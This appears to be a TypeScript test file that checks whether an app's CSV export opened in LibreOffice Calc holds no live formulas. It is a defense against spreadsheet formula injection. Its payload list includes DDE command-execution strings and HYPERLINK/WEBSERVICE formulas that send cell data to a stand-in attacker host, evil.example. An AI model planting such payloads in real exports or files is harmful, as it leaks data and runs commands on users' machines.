/** A CSV export opened by LibreOffice Calc, as a person opens it, and what stands in its cells then. */
import { readFileSync, writeFileSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasProgram, output } from '../../harness/programs';
import { TestArchive } from './support';

/** Cells that spreadsheets run, or have run. */
const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=WEBSERVICE("https://evil.example/")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|0',
  '@SUM(1+1)*cmd|0',
  '\t=1+1',
  ' =1+1',
  '\r\n=1+1',
  '＝1+1',
  '%0A=1+1',
  '"=1+1',
];

interface Sheet {
  formulas: string[];
  rows: string[][];
}

/** Cells of a file as Calc has them once it has opened it: UTF-8, commas, as its import dialog proposes. */
function opened(a: TestArchive, csv: string): Sheet {
  output(
    'soffice',
    `-env:UserInstallation=${pathToFileURL(a.path('profile'))}`,
    '--headless',
    '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1',
    '--convert-to',
    'fods',
    '--outdir',
    a.folder,
    csv,
  );
  const xml = readFileSync(csv.replace(/csv$/, 'fods'), 'utf8');
  const { document } = new JSDOM(xml, { contentType: 'text/xml' }).window;
  const cells = [...document.getElementsByTagName('table:table-cell')];
  return {
    formulas: cells.flatMap((cell) => cell.getAttribute('table:formula') ?? []),
    rows: [...document.getElementsByTagName('table:table-row')].map((row) =>
      [...row.getElementsByTagName('table:table-cell')].flatMap((cell) => {
        const text = [...cell.getElementsByTagName('text:p')].map((one) => one.textContent ?? '').join('\n');
        const times = Number(cell.getAttribute('table:number-columns-repeated') ?? 1);
        return new Array(Math.min(times, 30)).fill(text) as string[];
      }),
    ),
  };
}

describe.skipIf(!hasProgram('soffice'))('a CSV export in LibreOffice Calc', () => {
  let a: TestArchive;
  beforeAll(() => {
    a = new TestArchive({ print: null });
  });
  afterAll(() => a.close());

  it('has no formula in any cell, and every word', { timeout: 120_000 }, async () => {
    for (const text of DANGEROUS)
      a.add({
        title: text,
        text: `${text}\n\nВторой абзац; "в кавычках", с запятой.`,
        byline: text,
        source: text,
        url: text,
        language: 'ru',
        tags: [text],
        note: text,
        file: text,
        highlights: [{ quote: text }],
        people: { [text]: [] },
      });
    const { path } = await a.export({
      path: a.path('out.csv'),
      format: 'csv',
      order: 'given',
      notes: true,
      highlights: true,
    });
    const { formulas, rows } = opened(a, path);
    expect(formulas).toEqual([]);
    const [head, ...body] = rows.filter((row) => row.some(Boolean));
    expect(head?.slice(0, 4)).toEqual(['id', 'uid', 'title', 'byline']);
    expect(body).toHaveLength(DANGEROUS.length);
    const column = head?.indexOf('text') as number;
    for (const row of body) expect(row[column]).toContain('Второй абзац; "в кавычках", с запятой.');
  });

  it('would have had some, had they been written as they are', { timeout: 120_000 }, () => {
    const path = a.path('bare.csv');
    writeFileSync(path, '=1+1,"=HYPERLINK(""https://evil.example/"")",plain\r\n');
    expect(opened(a, path).formulas).toHaveLength(2);
  });
});
